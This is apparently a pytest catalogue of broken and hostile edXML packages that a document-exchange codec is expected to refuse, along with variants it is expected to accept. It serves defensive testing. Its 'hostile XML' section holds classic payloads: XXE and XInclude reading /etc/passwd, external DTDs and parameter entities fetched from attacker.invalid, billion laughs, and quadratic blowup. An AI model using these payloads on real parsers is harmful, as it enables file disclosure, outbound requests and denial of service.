"""A catalogue of broken and hostile packages: each refused fast, with its own code and path.

Every case is a precise mutation of a real corpus package (or a classic XML attack), so a
failure points at one rule. The tolerant side is pinned down too: what real producers do
differently must keep passing.
"""

from __future__ import annotations

import base64
import io
import re
import time
import zipfile
from dataclasses import dataclass, field
from typing import Any

import pytest

from core.errors import (
    HostileInput,
    HubError,
    MalformedInput,
    PayloadTooLarge,
    ValidationFailed,
)
from core.model import Kind
from core.settings import Settings
from schemas.edxml_codec import EdxmlCodec
from tests.edxml_support import corpus, mutate

MH = "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader"
TRACE = "/edXML/edXMLEnvelope/edXMLHeader/TraceHeaderList"
MANIFEST = "/edXML/edXMLEnvelope/edXMLBody/edXMLManifest"
ATTACHMENT = "/edXML/AttachmentEncoded/Attachment"


def _zip_file() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("van-ban.txt", "Văn bản điện tử")
    return buf.getvalue()


ZIP_B64 = base64.b64encode(_zip_file())
# edoc_update.edxml with its 360 KB attachment swapped for a small real ZIP
DOC = re.sub(rb"(<edXML:ContentTransferEncoded[^>]*>)[^<]*",
             lambda m: m.group(1) + ZIP_B64, corpus("edoc_update.edxml"))
STATUS = corpus("status.edxml")
HOP = "<edXML:TraceHeader>\r\n          <edXML:OrganId>000.00.00.G22</edXML:OrganId>"
SUBJECT = "<edXML:Subject>V/v kết nối, liên thông phần mềm quản lý văn bản</edXML:Subject>"
CTE_OPEN = '<edXML:ContentTransferEncoded xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">'
REFERENCE = """<edXML:Reference>
          <edXML:ContentId>cid:209</edXML:ContentId>"""
ATTACHMENT_XML = f"""<Attachment>
      <ContentId>cid:210</ContentId>
      <ContentType>application/zip</ContentType>
      {CTE_OPEN}{ZIP_B64.decode()}</edXML:ContentTransferEncoded>
    </Attachment>
  </AttachmentEncoded>"""


def doc(old: str, new: str, count: int = 1) -> bytes:
    return mutate(DOC, old, new, count)


def status(old: str, new: str) -> bytes:
    return mutate(STATUS, old, new)


def in_header(xml: str) -> bytes:
    return doc("<edXML:SteeringType>", xml + "<edXML:SteeringType>")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
               for i in range(1, 10))
    + b"]>\n<lolz>&lol9;</lolz>"
)
QUADRATIC = (b'<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "' + b"a" * 50_000
             + b'">]>\n<kaboom>' + b"&a;" * 50_000 + b"</kaboom>")


STRICT: dict[str, Any] = {"validation": {"profile": "strict"}}


@dataclass(frozen=True)
class Case:
    id: str
    raw: bytes
    code: str
    path: str = "/"
    kind: Kind = Kind.DOCUMENT
    error: type[HubError] = ValidationFailed
    line: int | None = None
    settings: dict[str, Any] = field(default_factory=dict)


CASES = [
    # ----------------------------------------------------------- required elements
    Case("missing Subject", doc(SUBJECT, ""), "element_missing", MH, line=5),
    Case("missing DocumentId", doc(
        "<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT</edXML:DocumentId>", ""),
        "element_missing", MH),
    Case("no recipient", re.sub(rb"<edXML:To>.*?</edXML:To>\s*", b"", DOC, flags=re.S),
         "element_missing", MH),
    Case("missing From/OrganId", doc("<edXML:OrganId>000.00.00.G22</edXML:OrganId>", ""),
         "element_missing", f"{MH}/From", line=6),
    Case("missing CodeNumber", doc("<edXML:CodeNumber>7816</edXML:CodeNumber>", ""),
         "element_missing", f"{MH}/Code", line=47),
    Case("missing PromulgationDate",
         doc("<edXML:PromulgationDate>2018/09/28</edXML:PromulgationDate>", ""),
         "element_missing", f"{MH}/PromulgationInfo"),
    Case("missing TypeName", doc("<edXML:TypeName>Công văn</edXML:TypeName>", ""),
         "element_missing", f"{MH}/DocumentType"),
    Case("missing BussinessDocType", doc("<edXML:BussinessDocType>2</edXML:BussinessDocType>",
                                         ""), "element_missing", f"{TRACE}/Bussiness"),
    Case("document without body",
         re.sub(rb"<edXML:edXMLBody>.*</edXML:edXMLBody>", b"", DOC, flags=re.S),
         "element_missing", "/edXML/edXMLEnvelope"),
    Case("attachment without content",
         re.sub(rb"<edXML:ContentTransferEncoded.*?</edXML:ContentTransferEncoded>", b"", DOC,
                flags=re.S), "element_missing", ATTACHMENT),
    # ----------------------------------------------------------- elements that do not belong
    Case("unknown element", in_header("<edXML:Urgency>2</edXML:Urgency>"),
         "element_unexpected", f"{MH}/Urgency"),
    Case("Subject twice", doc(SUBJECT, SUBJECT + SUBJECT), "element_unexpected",
         f"{MH}/Subject[2]"),
    Case("foreign element", in_header('<x:Extra xmlns:x="urn:example:x"/>'),
         "element_unexpected", f"{MH}/Extra"),
    Case("XInclude is not processed", in_header(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"'
        ' parse="text"/>'), "element_unexpected", f"{MH}/include"),
    Case("status element in a document", in_header("<edXML:StatusCode>01</edXML:StatusCode>"),
         "element_unexpected", f"{MH}/StatusCode", line=79),
    Case("text between elements", doc(SUBJECT, "stray text" + SUBJECT), "text_unexpected", MH),
    Case("unknown attribute", doc("<edXML:Subject>", '<edXML:Subject lang="vi">'),
         "attribute_unexpected", f"{MH}/Subject"),
    Case("Signature in a foreign namespace", doc(
        "<Signature>", '<Signature xmlns="urn:example:sig">'), "element_unexpected",
        "/edXML/edXMLEnvelope/edXMLHeader/Signature"),
    # ----------------------------------------------------------- lengths (NĐ 30/2020)
    # past the standard's maximum: refused under the strict profile (the interop profile
    # carries them with a warning, up to a ceiling: tests/unit/test_profiles.py)
    Case("OrganId of 14", doc("<edXML:OrganId>000.00.00.H14</edXML:OrganId>",
                              "<edXML:OrganId>000.00.00.H14X</edXML:OrganId>"),
         "value_too_long", f"{MH}/To[2]/OrganId", line=27, settings=STRICT),
    Case("CodeNumber of 12", doc("<edXML:CodeNumber>7816<", "<edXML:CodeNumber>781678167816<"),
         "value_too_long", f"{MH}/Code/CodeNumber", settings=STRICT),
    Case("CodeNotation of 31", doc("<edXML:CodeNotation>VPCP-TTĐT<",
                                   "<edXML:CodeNotation>" + "N" * 31 + "<"),
         "value_too_long", f"{MH}/Code/CodeNotation", settings=STRICT),
    Case("Subject of 501", doc(SUBJECT, f"<edXML:Subject>{'s' * 501}</edXML:Subject>"),
         "value_too_long", f"{MH}/Subject", settings=STRICT),
    Case("OrganName of 201", doc("<edXML:OrganName>Văn phòng Chính phủ<",
                                 "<edXML:OrganName>" + "V" * 201 + "<"),
         "value_too_long", f"{MH}/From/OrganName", settings=STRICT),
    Case("TypeName of 101", doc("<edXML:TypeName>Công văn<", "<edXML:TypeName>" + "C" * 101
                                + "<"), "value_too_long", f"{MH}/DocumentType/TypeName",
         settings=STRICT),
    # past the ceiling: refused under either profile
    Case("CodeNumber of 65", doc("<edXML:CodeNumber>7816<", "<edXML:CodeNumber>" + "7" * 65
                                 + "<"), "value_too_long", f"{MH}/Code/CodeNumber", line=48),
    Case("Subject of 1001", doc(SUBJECT, f"<edXML:Subject>{'s' * 1001}</edXML:Subject>"),
         "value_too_long", f"{MH}/Subject"),
    Case("OrganId of 65 in a trace hop", doc(HOP, f"<edXML:TraceHeader>\r\n          "
                                                  f"<edXML:OrganId>{'1' * 65}</edXML:OrganId>"),
         "value_too_long", f"{TRACE}/TraceHeader/OrganId", line=87),
    # ----------------------------------------------------------- codes and formats
    Case("empty Subject", doc(SUBJECT, "<edXML:Subject></edXML:Subject>"), "value_empty",
         f"{MH}/Subject"),
    Case("Priority of two digits", doc("<edXML:Priority>0<", "<edXML:Priority>10<"),
         "value_invalid", f"{MH}/OtherInfo/Priority"),
    Case("Type not a number", doc("<edXML:Type>1<", "<edXML:Type>CV<"), "value_invalid",
         f"{MH}/DocumentType/Type"),
    Case("BussinessDocType 4", doc("<edXML:BussinessDocType>2<", "<edXML:BussinessDocType>4<"),
         "value_invalid", f"{TRACE}/Bussiness/BussinessDocType", line=92),
    Case("status code 07", status("<edXML:StatusCode>01<", "<edXML:StatusCode>07<"),
         "value_invalid", f"{MH}/StatusCode", kind=Kind.STATUS, line=28),
    Case("status code 1", status("<edXML:StatusCode>01<", "<edXML:StatusCode>1<"),
         "value_invalid", f"{MH}/StatusCode", kind=Kind.STATUS),
    # ----------------------------------------------------------- dates
    Case("30 February", doc("<edXML:PromulgationDate>2018/09/28<",
                            "<edXML:PromulgationDate>2018/02/30<"),
         "date_invalid", f"{MH}/PromulgationInfo/PromulgationDate", line=53),
    Case("ISO date of no real day", doc("<edXML:PromulgationDate>2018/09/28<",
                                        "<edXML:PromulgationDate>2018-02-30<"),
         "date_invalid", f"{MH}/PromulgationInfo/PromulgationDate"),
    Case("no date at all", doc("<edXML:PromulgationDate>2018/09/28<",
                               "<edXML:PromulgationDate>hôm qua<"),
         "date_invalid", f"{MH}/PromulgationInfo/PromulgationDate"),
    Case("31 April, day first", doc("<edXML:DueDate>2018/09/28<", "<edXML:DueDate>31/04/2018<"),
         "date_invalid", f"{MH}/DueDate"),
    Case("hour 24", status("2018/09/28 17:25:11", "2018/09/28 24:25:11"), "date_invalid",
         f"{MH}/Timestamp", kind=Kind.STATUS, line=30),
    Case("timestamp without time", status("2018/09/28 17:25:11", "2018/09/28"), "date_invalid",
         f"{MH}/Timestamp", kind=Kind.STATUS),
    # ----------------------------------------------------------- status packages
    Case("status without Timestamp", status(
        "<edXML:Timestamp>2018/09/28 17:25:11</edXML:Timestamp>", ""), "element_missing", MH,
        kind=Kind.STATUS),
    Case("status naming no document", status(
        "<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT</edXML:DocumentId>",
        "<edXML:DocumentId></edXML:DocumentId>"), "value_empty", f"{MH}/ResponseFor/DocumentId",
        kind=Kind.STATUS, line=19),
    Case("status whose ResponseFor has no DocumentId", status(
        "<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT</edXML:DocumentId>", ""),
        "element_missing", f"{MH}/ResponseFor", kind=Kind.STATUS, line=16),
    Case("status with a recipient list", status(
        "<edXML:StatusCode>", "<edXML:To><edXML:OrganId>000.00.00.H57</edXML:OrganId>"
        "</edXML:To><edXML:StatusCode>"), "element_unexpected", f"{MH}/To", kind=Kind.STATUS,
        line=28),
    Case("status with attachments", status("</edXML:edXMLEnvelope>",
                                           "</edXML:edXMLEnvelope><edXML:AttachmentEncoded/>"),
         "element_unexpected", "/edXML/AttachmentEncoded", kind=Kind.STATUS),
    Case("status to the document endpoint", STATUS, "wrong_package_kind", MH, line=2),
    Case("document to the status endpoint", DOC, "wrong_package_kind", MH, kind=Kind.STATUS),
    # ----------------------------------------------------------- attachments
    Case("dangling manifest reference", doc(
        "</edXML:edXMLManifest>", "<edXML:Reference><edXML:ContentId>cid:404</edXML:ContentId>"
        "</edXML:Reference></edXML:edXMLManifest>"), "manifest_dangling_reference",
        f"{MANIFEST}/Reference[2]/ContentId"),
    Case("attachment without reference", doc("</AttachmentEncoded>", ATTACHMENT_XML),
         "attachment_unreferenced", f"{ATTACHMENT}[2]/ContentId"),
    Case("two attachments, one id", doc("</AttachmentEncoded>",
                                        ATTACHMENT_XML.replace("cid:210", "209")),
         "attachment_duplicate_id", f"{ATTACHMENT}[2]/ContentId"),
    Case("bad base64", doc(CTE_OPEN + "UEsD", CTE_OPEN + "UE$D"), "attachment_not_base64",
         f"{ATTACHMENT}/ContentTransferEncoded", line=156),
    Case("truncated base64", doc(CTE_OPEN + "UEsD", CTE_OPEN + "UEs"),
         "attachment_not_base64", f"{ATTACHMENT}/ContentTransferEncoded"),
    Case("declared ZIP that is not a ZIP", doc(ZIP_B64.decode(),
                                               base64.b64encode(b"%PDF-1.7 ...").decode()),
         "attachment_not_zip", f"{ATTACHMENT}/ContentTransferEncoded"),
    Case("ZIP header without its end", doc(ZIP_B64.decode(),
                                           base64.b64encode(_zip_file()[:40]).decode()),
         "attachment_not_zip", f"{ATTACHMENT}/ContentTransferEncoded"),
    Case("oversize attachment", DOC, "attachment_too_large", ATTACHMENT,
         error=PayloadTooLarge, settings={"limits": {"max_attachment_bytes": 64}}),
    Case("too many attachments", doc("</AttachmentEncoded>", ATTACHMENT_XML),
         "too_many_attachments", f"{ATTACHMENT}[2]", line=158,
         settings={"limits": {"max_attachments": 1}}),
    Case("too many recipients", DOC, "too_many_recipients", f"{MH}/To[3]", line=36,
         settings={"limits": {"max_recipients": 2}}),
    # ----------------------------------------------------------- hostile XML
    Case("XXE reading a file", status(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE edXML [<!ENTITY xxe SYSTEM '
        '"file:///etc/passwd">]>').replace(b"<edXML:Description>", b"<edXML:Description>&xxe;"),
        "xml_doctype", kind=Kind.STATUS, error=HostileInput, line=2),
    Case("external DTD", status('<?xml version="1.0" encoding="UTF-8"?>',
                                '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE edXML SYSTEM '
                                '"http://attacker.invalid/edxml.dtd">'),
         "xml_doctype", kind=Kind.STATUS, error=HostileInput),
    Case("parameter entities", b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM '
         b'"http://attacker.invalid/p.dtd"> %p;]>\n<r/>', "xml_doctype", error=HostileInput),
    Case("billion laughs", BILLION_LAUGHS, "xml_doctype", error=HostileInput),
    Case("quadratic blowup", QUADRATIC, "xml_doctype", error=HostileInput),
    Case("entity without a DTD", status("<edXML:Description>", "<edXML:Description>&xxe;"),
         "xml_malformed", kind=Kind.STATUS, error=MalformedInput, line=29),
    Case("10,000-deep nesting", in_header("<edXML:Deep>" * 10_000 + "</edXML:Deep>" * 10_000),
         "xml_too_deep", error=HostileInput),
    Case("65 levels inside a package", in_header("<edXML:D>" * 61 + "</edXML:D>" * 61),
         "xml_too_deep", error=HostileInput),
    Case("too many attributes", doc("<edXML:Subject>", "<edXML:Subject "
                                    + " ".join(f'a{i}="x"' for i in range(40)) + ">"),
         "xml_too_many_attributes", f"{MH}/Subject", error=HostileInput),
    Case("20,000 elements and one out of place", doc(
        "<edXML:Place>Cac bo va co quan ngang bo</edXML:Place>",
        "<edXML:Place>bộ</edXML:Place>" * 20_000 + "<edXML:Village>x</edXML:Village>"),
        "schema_invalid", f"{MH}/ToPlaces/Village"),
    Case("body over the limit", DOC, "xml_too_large", error=PayloadTooLarge,
         settings={"limits": {"max_body_bytes": 4096}}),
    # ----------------------------------------------------------- not edXML at all
    Case("not XML", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "xml_malformed", error=MalformedInput),
    Case("empty body", b"", "xml_malformed", error=MalformedInput),
    Case("truncated package", STATUS[:1000], "xml_malformed", kind=Kind.STATUS,
         error=MalformedInput),
    Case("undeclared prefix", status("<edXML:StatusCode>01</edXML:StatusCode>",
                                     "<ns9:StatusCode>01</ns9:StatusCode>"),
         "xml_malformed", kind=Kind.STATUS, error=MalformedInput),
    Case("wrong namespace", STATUS.replace(b"http://www.mic.gov.vn/TBT/QCVN_102_2016",
                                           b"http://www.mic.gov.vn/TBT/QCVN_102_2015"),
         "wrong_namespace", "/edXML", kind=Kind.STATUS),
    Case("wrong root", b'<?xml version="1.0"?><Envelope xmlns="http://schemas.xmlsoap.org/'
         b'soap/envelope/"><Body/></Envelope>', "wrong_root", "/Envelope"),
    Case("UTF-16", STATUS.decode("utf-8").encode("utf-16"), "xml_not_utf8", kind=Kind.STATUS,
         error=MalformedInput),
    Case("Windows-1258 labelled UTF-8", STATUS.decode("utf-8").encode("cp1258", "replace"),
         "xml_not_utf8", kind=Kind.STATUS, error=MalformedInput),
    Case("declared ISO-8859-1", status('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
         "xml_not_utf8", kind=Kind.STATUS, error=MalformedInput),
]


def _codec(overrides: dict[str, Any]) -> EdxmlCodec:
    return EdxmlCodec(Settings(**overrides))


@pytest.fixture(scope="module")
def codecs() -> dict[str, EdxmlCodec]:
    return {}


def test_the_catalogue_is_large_and_every_case_distinct() -> None:
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)
    assert len({c.raw for c in CASES if not c.settings}) == len([c for c in CASES
                                                                  if not c.settings])


# Refused without doing the work the input asks for: generous, far above a normal refusal
# and far below an expansion or a deep tree that got through. Not a benchmark (`make bench`).
REFUSAL_BOUND_S = 5.0


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_case_is_refused_precisely_and_fast(case: Case, codecs: dict[str, EdxmlCodec]) -> None:
    key = repr(sorted(case.settings.items()))
    codec = codecs.get(key) or codecs.setdefault(key, _codec(case.settings))
    start = time.perf_counter()
    with pytest.raises(HubError) as info:
        codec.read(case.raw, case.kind)
    elapsed = time.perf_counter() - start
    error = info.value
    assert type(error) is case.error, error
    assert error.code == case.code, [e.as_dict() for e in error.errors]
    assert error.detail and error.detail_vi
    if case.error is ValidationFailed or case.path != "/":
        assert [e.path for e in error.errors] == [case.path], [e.as_dict() for e in error.errors]
        [field_error] = error.errors
        assert field_error.message and field_error.message_vi
        assert field_error.as_dict()["code"] == case.code
    if case.line is not None:
        assert error.errors[0].line == case.line
    assert elapsed < REFUSAL_BOUND_S, f"{case.id} took {elapsed:.3f}s"


def test_messages_say_what_was_expected_and_found() -> None:
    codec = _codec({})
    with pytest.raises(ValidationFailed) as info:
        codec.read(doc("<edXML:OrganId>000.00.00.H14</edXML:OrganId>",
                       "<edXML:OrganId>000.00.00.H14X</edXML:OrganId>"), Kind.DOCUMENT,
                   "strict")
    [error] = info.value.errors
    assert error.message == "expected at most 13 characters, found 14"
    assert error.message_vi == "tối đa 13 ký tự, nhận được 14"
    with pytest.raises(ValidationFailed) as info:
        codec.read(status("<edXML:StatusCode>01<", "<edXML:StatusCode>07<"), Kind.STATUS)
    assert "expected one of 01, 02, 03, 04, 05, 06, 13, 15, 16, found '07'" == \
        info.value.errors[0].message
    with pytest.raises(ValidationFailed) as info:
        codec.read(doc("<edXML:Reference>", '<edXML:Reference lang="vi">'), Kind.DOCUMENT)
    assert info.value.errors[0].message == "unexpected attribute lang; expected only xlink:href"
    with pytest.raises(ValidationFailed) as info:
        codec.read(in_header("<edXML:Urgency>2</edXML:Urgency>"), Kind.DOCUMENT)
    assert info.value.errors[0].message.startswith(
        "unexpected element Urgency; expected one of: From, To, DocumentId, Code")
    assert info.value.errors[0].message_vi.startswith("phần tử Urgency không được phép")
    with pytest.raises(ValidationFailed) as info:
        _codec({}).read(status("<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT"
                               "</edXML:DocumentId>", ""), Kind.STATUS)
    assert (info.value.errors[0].message, info.value.errors[0].message_vi) == (
        "expected element DocumentId (required in a status package), found none",
        "thiếu phần tử DocumentId (bắt buộc trong gói tin trạng thái)")
    with pytest.raises(ValidationFailed) as info:
        _codec({"limits": {"max_recipients": 2}}).read(DOC, Kind.DOCUMENT)
    assert (info.value.errors[0].message, info.value.errors[0].message_vi) == (
        "expected at most 2 recipients, found 3", "tối đa 2 nơi nhận, nhận được 3")
    with pytest.raises(ValidationFailed) as info:
        _codec({}).read(in_header("<edXML:StatusCode>01</edXML:StatusCode>"), Kind.DOCUMENT)
    assert (info.value.errors[0].message, info.value.errors[0].message_vi) == (
        "unexpected element StatusCode: it does not belong in a document package",
        "phần tử StatusCode không thuộc gói tin văn bản")


def test_several_problems_are_all_reported() -> None:
    raw = doc(SUBJECT, "")
    raw = mutate(raw, "<edXML:Priority>0<", "<edXML:Priority>x<")
    raw = mutate(raw, "<edXML:DueDate>2018/09/28<", "<edXML:DueDate>2018/13/01<")
    with pytest.raises(ValidationFailed) as info:
        _codec({}).read(raw, Kind.DOCUMENT)
    assert info.value.code == "validation_failed"
    assert {e.path for e in info.value.errors} == {
        MH, f"{MH}/OtherInfo/Priority", f"{MH}/DueDate"}


# ----------------------------------------------------------------- what must keep passing


TOLERATED = {
    "children in another order": re.sub(
        rb"(<edXML:Place>[^<]*</edXML:Place>)(\s*)(<edXML:PromulgationDate>[^<]*<[^>]*>)",
        rb"\3\2\1", doc("<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT"
                          "</edXML:DocumentId>", "").replace(
            b"</edXML:MessageHeader>", "<edXML:DocumentId>000.00.00.G22,2015/09/30,"
            "7816/VPCP-TTĐT</edXML:DocumentId></edXML:MessageHeader>".encode())),
    "day-first dates": doc("<edXML:PromulgationDate>2018/09/28<",
                           "<edXML:PromulgationDate>28/09/2018<"),
    "29 February of a leap year": doc("<edXML:DueDate>2018/09/28<",
                                      "<edXML:DueDate>29/02/2024<"),
    "cid: on one side only": doc("<ContentId>cid:209</ContentId>", "<ContentId>209</ContentId>"),
    "empty optional elements": doc("<edXML:SteeringType>1</edXML:SteeringType>",
                                   "<edXML:SteeringType/><edXML:ResponseFor><edXML:OrganId/>"
                                   "<edXML:DocumentId></edXML:DocumentId></edXML:ResponseFor>"),
    "the id null and a short id": doc("<edXML:OrganId>000.00.00.H41</edXML:OrganId>",
                                      "<edXML:OrganId>null</edXML:OrganId>").replace(
        b"<edXML:OrganId>000.00.00.H14</edXML:OrganId>",
        b"<edXML:OrganId>28.22.H17</edXML:OrganId>", 1),
    "xmldsig Signature": doc("<Signature>", '<Signature xmlns="http://www.w3.org/2000/09/'
                             'xmldsig#">'),
    "no Signature": re.sub(rb"<Signature>.*</Signature>", b"", DOC, flags=re.S),
    "no trace": re.sub(rb"<edXML:TraceHeaderList>.*</edXML:TraceHeaderList>", b"", DOC,
                       flags=re.S),
    "prefixes of any name": DOC.replace(b"edXML:", b"q:").replace(b"xmlns:edXML=", b"xmlns:q="),
    "comments and processing instructions": doc(SUBJECT, "<!-- note --><?pi x?>" + SUBJECT),
    "CDATA": doc(SUBJECT, "<edXML:Subject><![CDATA[V/v <kết nối> & liên thông]]>"
                 "</edXML:Subject>"),
}


@pytest.mark.parametrize("name", TOLERATED)
def test_what_real_producers_do_is_accepted(name: str) -> None:
    _codec({}).read(TOLERATED[name], Kind.DOCUMENT)
